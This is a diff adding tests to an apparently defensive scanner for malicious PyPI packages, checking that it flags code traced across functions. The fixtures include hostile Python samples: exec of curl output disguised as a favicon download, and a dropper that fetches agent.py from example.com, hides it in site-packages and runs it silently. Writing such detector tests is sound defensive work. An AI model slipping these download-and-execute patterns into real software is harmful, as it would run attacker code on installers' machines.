@@ -78,6 +78,18 @@ describe('values followed through code', () => {
     expect(gating(exec)).toHaveLength(1);
   });
 
+  it('treats the output of a curl command as downloaded code when it is executed', async () => {
+    const findings = await runOn(pyExecDecoded, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/update.py': [
+        'import subprocess',
+        'def update():',
+        '    exec(subprocess.getoutput("curl -s https://example.com/static/favicon.ico"), {}, {})',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
   it('treats a request to an address decoded from an imported constant as a hidden endpoint', async () => {
     const findings = await runOn(pySuspiciousEndpoint, 'pypi', {
       'demo-1.0/setup.py': setup,
@@ -158,6 +170,42 @@ describe('values followed through code', () => {
     });
     expect(gating(findings)).toHaveLength(1);
     expect(findings[0].evidence).toContain('c1.exe');
+  });
+
+  it('follows a dropper split into a download helper and the function that runs its result', async () => {
+    const findings = await runOn(pyDownloadExecute, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/core.py': [
+        'import os, site, sys, subprocess, requests',
+        'def _fetch():',
+        '    code = requests.get("https://example.com/agent.py", timeout=15).text',
+        '    target = os.path.join(site.getsitepackages()[0], ".agent.py")',
+        '    with open(target, "w") as f:',
+        '        f.write(code)',
+        '    return target',
+        'def analyze(value):',
+        '    path = _fetch()',
+        '    subprocess.Popen([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
+        '    return len(value)',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toHaveLength(1);
+  });
+
+  it('does not join unrelated functions that share no call', async () => {
+    const findings = await runOn(pyDownloadExecute, 'pypi', {
+      'demo-1.0/setup.py': setup,
+      'demo-1.0/demo/tools.py': [
+        'import subprocess, requests',
+        'def fetch(url, dest):',
+        '    data = requests.get(url).content',
+        '    with open(dest, "wb") as f:',
+        '        f.write(data)',
+        'def lint(path):',
+        '    return subprocess.run(["flake8", path])',
+      ].join('\n'),
+    });
+    expect(gating(findings)).toEqual([]);
   });
 
   it('keeps a downloaded data file written to disk below the gate', async () => {
